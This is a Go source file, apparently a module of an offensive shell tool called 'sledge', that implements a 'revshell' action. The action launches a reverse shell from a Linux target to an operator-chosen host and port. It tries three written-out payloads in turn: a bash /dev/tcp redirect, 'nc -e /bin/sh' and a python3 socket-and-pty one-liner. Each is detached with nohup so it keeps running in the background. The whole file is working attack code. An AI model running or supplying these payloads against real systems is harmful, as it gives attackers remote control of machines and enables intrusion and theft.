package action

import (
	"context"
	"fmt"
	"strconv"

	"github.com/sledgeshell/sledge/encode"
)

// revShellAction launches a classic reverse shell back to an
// operator-controlled listener. Payloads are tried in order of reliability;
// each is backgrounded and detached from the session so the forward shell
// stays usable while the reverse shell lives.
type revShellAction struct{}

func (a *revShellAction) Name() string { return "revshell" }
func (a *revShellAction) Description() string {
	return "revshell <host> <port>: spawn a reverse shell to a listener"
}
func (a *revShellAction) SupportedOS() []string {
	return []string{encode.OSLinux}
}

func (a *revShellAction) payloads(host string, port int) []string {
	return []string{
		fmt.Sprintf("bash -c 'bash -i >& /dev/tcp/%s/%d 0>&1'", host, port),
		fmt.Sprintf("nc -e /bin/sh %s %d", host, port),
		fmt.Sprintf(`python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("%s",%d));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`, host, port),
	}
}

func (a *revShellAction) Invoke(ctx context.Context, r Runner, args []string) (string, error) {
	if len(args) != 2 {
		return "", fmt.Errorf("usage: %s", a.Description())
	}
	host := args[0]
	port, err := strconv.Atoi(args[1])
	if err != nil || port < 1 || port > 65535 {
		return "", fmt.Errorf("invalid port %q", args[1])
	}

	for i, payload := range a.payloads(host, port) {
		launch := fmt.Sprintf("nohup %s >/dev/null 2>&1 &", payload)
		if _, err := r.Run(ctx, launch); err != nil {
			return "", fmt.Errorf("launching payload %d: %w", i+1, err)
		}
		// The target does not report connect success; probe whether the
		// payload's binary even exists to decide on a fallback.
		check, err := r.Run(ctx, fmt.Sprintf("command -v %s", payloadBinary(payload)))
		if err == nil && check != "" {
			return fmt.Sprintf("reverse shell launched toward %s:%d, check your listener", host, port), nil
		}
	}
	return "", fmt.Errorf("no reverse shell payload had a usable binary on the target")
}

func payloadBinary(payload string) string {
	for i, c := range payload {
		if c == ' ' {
			return payload[:i]
		}
	}
	return payload
}
